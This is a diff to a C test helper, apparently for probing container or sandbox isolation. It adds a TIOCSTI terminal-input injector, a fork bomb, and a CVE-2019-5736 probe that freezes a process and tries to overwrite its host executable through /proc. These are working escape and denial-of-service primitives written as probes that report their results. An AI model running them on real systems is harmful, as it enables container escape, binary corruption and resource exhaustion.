@@ -53,6 +53,25 @@
  *                          (EPERM); exit 0 either way, it is a probe
  *   tty                    "stdin=tty|notty stdout=tty|notty ttyname=NAME"
  *                          (NAME of fd 0, or none)
+ *   open PATH MODE         open PATH with MODE r, w, rw or path (O_PATH):
+ *                          "ok" or the errno name; exit 0, it is a probe
+ *   tiocsti PATH TEXT      push TEXT into the input of the terminal PATH
+ *                          ("-": fd 0) with TIOCSTI: "ok" or the errno name
+ *   grab-exe COMM GO SECS [FIFO SRC]
+ *                          the CVE-2019-5736 probe: wait up to SECS for a
+ *                          process named COMM, freeze it (SIGSTOP), then try
+ *                          to write its executable and open fds through
+ *                          /proc, print its capabilities and seccomp mode,
+ *                          let it go (SIGCONT) and feed FIFO (where it may
+ *                          wait, e.g. /etc/passwd) with SRC's bytes; keep
+ *                          its exe open O_PATH until file GO exists, then
+ *                          try to reopen that for writing once more and
+ *                          overwrite its first bytes.  Lines: "caught", then
+ *                          "exe-write=R", "fd-write=R" (the first fd that
+ *                          opened, or none), "CapPrm: ...", "Seccomp: N",
+ *                          "later-write=R"; R is ok or an errno name
+ *   forkbomb SECS          fork children that sleep SECS until fork fails:
+ *                          "forks=N stopped=ERRNO"
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -63,6 +82,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/stat.h>
 #include <sys/sysmacros.h>
 #include <sys/utsname.h>
@@ -212,6 +232,8 @@ static const char *errno_name(int err)
 		{ ENOSPC, "ENOSPC" }, { ENXIO, "ENXIO" }, { ENODEV, "ENODEV" },
 		{ ENOTDIR, "ENOTDIR" }, { EBUSY, "EBUSY" }, { EIO, "EIO" },
 		{ EBADF, "EBADF" }, { ENOSYS, "ENOSYS" }, { EFAULT, "EFAULT" },
+		{ ETXTBSY, "ETXTBSY" }, { EAGAIN, "EAGAIN" }, { ESRCH, "ESRCH" },
+		{ ENOTTY, "ENOTTY" }, { EAFNOSUPPORT, "EAFNOSUPPORT" },
 	};
 	size_t i;
 
@@ -707,6 +729,207 @@ static int cmd_syscall(int argc, char **argv)
 	return 0;
 }
 
+static int open_mode(const char *m)
+{
+	if (!strcmp(m, "r"))
+		return O_RDONLY;
+	if (!strcmp(m, "w"))
+		return O_WRONLY;
+	if (!strcmp(m, "rw"))
+		return O_RDWR;
+	if (!strcmp(m, "path"))
+		return O_PATH;
+	return -1;
+}
+
+static int cmd_open(int argc, char **argv)
+{
+	int mode = open_mode(argv[2]), fd;
+
+	(void)argc;
+	if (mode < 0)
+		return fail_msg(argv[0], "mode must be r, w, rw or path");
+	fd = open(argv[1], mode | O_CLOEXEC | O_NOCTTY);
+	printf("%s\n", fd < 0 ? errno_name(errno) : "ok");
+	if (fd >= 0)
+		close(fd);
+	return 0;
+}
+
+static int cmd_tiocsti(int argc, char **argv)
+{
+	int fd = strcmp(argv[1], "-") ? open(argv[1], O_RDWR | O_NOCTTY | O_CLOEXEC) : 0;
+	const char *p;
+
+	(void)argc;
+	if (fd < 0) {
+		printf("%s\n", errno_name(errno));
+		return 0;
+	}
+	for (p = argv[2]; *p; p++)
+		if (ioctl(fd, TIOCSTI, p) < 0)
+			break;
+	printf("%s\n", *p ? errno_name(errno) : "ok");
+	if (fd > 0)
+		close(fd);
+	return 0;
+}
+
+/* the pid of a process named COMM but us, or 0 */
+static pid_t find_comm(const char *comm)
+{
+	char path[64], buf[64];
+	struct dirent *e;
+	pid_t pid = 0;
+	FILE *f;
+	DIR *d = opendir("/proc");
+
+	while (d && !pid && (e = readdir(d))) {
+		if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
+			continue;
+		snprintf(path, sizeof(path), "/proc/%d/comm", atoi(e->d_name));
+		f = fopen(path, "re");
+		if (f && fgets(buf, sizeof(buf), f) && !strcmp(strtok(buf, "\n"), comm))
+			pid = atoi(e->d_name);
+		if (f)
+			fclose(f);
+	}
+	if (d)
+		closedir(d);
+	return pid;
+}
+
+static const char *try_write(const char *path)
+{
+	int fd = open(path, O_WRONLY | O_CLOEXEC | O_NOCTTY);
+
+	if (fd < 0)
+		return errno_name(errno);
+	close(fd);
+	return "ok";
+}
+
+/* what the attack does with it: its first bytes replaced */
+static const char *overwrite(const char *path)
+{
+	int fd = open(path, O_WRONLY | O_CLOEXEC | O_NOCTTY);
+	const char *r = "ok";
+
+	if (fd < 0)
+		return errno_name(errno);
+	if (pwrite(fd, "#!/bin/sh\n", 10, 0) != 10)
+		r = errno_name(errno);
+	close(fd);
+	return r;
+}
+
+/* the first of PID's fds that opens for writing, or "none" */
+static void fd_write(pid_t pid)
+{
+	char dir[64], path[64 + sizeof(((struct dirent *)0)->d_name)];
+	struct dirent *e;
+	DIR *d;
+
+	snprintf(dir, sizeof(dir), "/proc/%d/fd", (int)pid);
+	d = opendir(dir);
+	while (d && (e = readdir(d))) {
+		if (e->d_name[0] == '.')
+			continue;
+		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
+		if (!strcmp(try_write(path), "ok")) {
+			printf("fd-write=ok fd=%s\n", e->d_name);
+			closedir(d);
+			return;
+		}
+	}
+	printf("fd-write=none%s\n", d ? "" : " (no fd listing)");
+	if (d)
+		closedir(d);
+}
+
+static void status_lines(pid_t pid)
+{
+	char path[64], line[256];
+	FILE *f;
+
+	snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
+	f = fopen(path, "re");
+	while (f && fgets(line, sizeof(line), f))
+		if (!strncmp(line, "CapPrm:", 7) || !strncmp(line, "CapEff:", 7) ||
+		    !strncmp(line, "Seccomp:", 8))
+			fputs(line, stdout);
+	if (f)
+		fclose(f);
+}
+
+static void feed_fifo(const char *fifo, const char *src)
+{
+	int out = open(fifo, O_WRONLY | O_CLOEXEC), in = open(src, O_RDONLY | O_CLOEXEC);
+	char buf[4096];
+	ssize_t n;
+
+	while (out >= 0 && in >= 0 && (n = read(in, buf, sizeof(buf))) > 0)
+		if (write(out, buf, n) != n)
+			break;
+	if (out >= 0)
+		close(out);
+	if (in >= 0)
+		close(in);
+}
+
+static int cmd_grab_exe(int argc, char **argv)
+{
+	char path[64];
+	double end;
+	struct timespec ts;
+	pid_t pid = 0;
+	int exe;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	end = ts.tv_sec + atof(argv[3]);
+	while (!(pid = find_comm(argv[1]))) {
+		clock_gettime(CLOCK_MONOTONIC, &ts);
+		if (ts.tv_sec > end)
+			return fail_msg(argv[0], "nobody came");
+	}
+	kill(pid, SIGSTOP);
+	puts("caught");
+	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
+	printf("exe-write=%s\n", try_write(path));
+	exe = open(path, O_PATH | O_CLOEXEC);
+	fd_write(pid);
+	status_lines(pid);
+	kill(pid, SIGCONT);
+	fflush(stdout);
+	if (argc > 5)
+		feed_fifo(argv[4], argv[5]);
+	while (access(argv[2], F_OK))
+		usleep(20000);
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", exe);
+	printf("later-write=%s\n", exe < 0 ? "no-exe" : overwrite(path));
+	return 0;
+}
+
+static int cmd_forkbomb(int argc, char **argv)
+{
+	long forks = 0;
+	pid_t pid;
+
+	(void)argc;
+	for (;;) {
+		pid = fork();
+		if (pid < 0)
+			break;
+		if (pid == 0) {
+			sleep((unsigned)atoi(argv[1]));
+			_exit(0);
+		}
+		forks++;
+	}
+	printf("forks=%ld stopped=%s\n", forks, errno_name(errno));
+	return 0;
+}
+
 /* Sorted bytewise by name for bsearch; main() checks. */
 static const struct cmd cmds[] = {
 	{ "caps", 0, 0, cmd_caps, "" },
@@ -717,6 +940,8 @@ static const struct cmd cmds[] = {
 	{ "env", 0, 0, cmd_env, "" },
 	{ "exit", 1, 1, cmd_exit, "N" },
 	{ "fds", 0, 0, cmd_fds, "" },
+	{ "forkbomb", 1, 1, cmd_forkbomb, "SECONDS" },
+	{ "grab-exe", 3, 5, cmd_grab_exe, "COMM GO SECONDS [FIFO SRC]" },
 	{ "hostname", 0, 0, cmd_hostname, "" },
 	{ "id", 0, 0, cmd_id, "" },
 	{ "init-marker", 0, -1, cmd_init_marker, "[CMD [ARGS...]]" },
@@ -724,12 +949,14 @@ static const struct cmd cmds[] = {
 	{ "ls", 1, 1, cmd_ls, "DIR" },
 	{ "mknod-test", 1, 1, cmd_mknod_test, "PATH" },
 	{ "mounts", 0, 0, cmd_mounts, "" },
+	{ "open", 2, 2, cmd_open, "PATH r|w|rw|path" },
 	{ "pid", 0, 0, cmd_pid, "" },
 	{ "ppid", 0, 0, cmd_ppid, "" },
 	{ "readlink", 1, 1, cmd_readlink, "PATH" },
 	{ "sleep", 1, 1, cmd_sleep, "SECONDS" },
 	{ "stat", 1, 1, cmd_stat, "PATH" },
 	{ "syscall", 1, 5, cmd_syscall, "NR [ARGS...]" },
+	{ "tiocsti", 2, 2, cmd_tiocsti, "PATH|- TEXT" },
 	{ "true", 0, 0, cmd_true, "" },
 	{ "tty", 0, 0, cmd_tty, "" },
 	{ "wait-signal", 0, 0, cmd_wait_signal, "" },
